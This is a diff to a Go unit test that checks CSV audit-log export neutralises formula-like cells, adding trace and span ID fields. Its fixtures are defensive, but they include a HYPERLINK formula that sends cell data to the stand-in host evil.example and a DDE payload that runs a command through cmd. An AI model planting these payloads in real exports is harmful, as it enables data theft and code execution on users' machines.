@@ -54,7 +54,7 @@ func TestCSVFormulaLike(t *testing.T) {
 func TestCSVRowNeutralizesEveryTextCell(t *testing.T) {
 	const f = `=HYPERLINK("http://evil.example/?"&A1;"click")`
 	e := audit.Event{Seq: 7, Time: time.Date(2025, 1, 2, 3, 4, 5, 6, time.UTC), Type: "@type", Actor: audit.Actor{Kind: "+kind", ID: "-id"},
-		RequestID: f, SessionID: "\tses", TaskID: " =task", GrantID: "\rgrt", ActionID: "\nact", Upstream: "@SUM(1+1)*cmd|' /C calc'!A0",
+		RequestID: f, SessionID: "\tses", TaskID: " =task", GrantID: "\rgrt", ActionID: "\nact", TraceID: "=trace", SpanID: "+span", Upstream: "@SUM(1+1)*cmd|' /C calc'!A0",
 		Method: "-X", Path: f, Decision: "=allow", Code: "+code", Reason: "@reason, \"quoted\"", Status: 200, LatencyUS: -5,
 		BytesIn: 0, BytesOut: 12, PrevHash: "=prev", Hash: "-hash"}
 	var buf bytes.Buffer
@@ -67,7 +67,7 @@ func TestCSVRowNeutralizesEveryTextCell(t *testing.T) {
 		t.Fatalf("not CSV: %v\n%s", err, buf.Bytes())
 	}
 	if diff := cmp.Diff([][]string{csvHeader, {
-		"7", "2025-01-02T03:04:05.000000006Z", "'@type", "'+kind", "'-id", "'" + f, "'\tses", "' =task", "'\rgrt", "'\nact",
+		"7", "2025-01-02T03:04:05.000000006Z", "'@type", "'+kind", "'-id", "'" + f, "'\tses", "' =task", "'\rgrt", "'\nact", "'=trace", "'+span",
 		"'@SUM(1+1)*cmd|' /C calc'!A0", "'-X", "'" + f, "'=allow", "'+code", "'@reason, \"quoted\"",
 		"200", "-5", "", "12", "'=prev", "'-hash",
 	}}, rows); diff != "" {
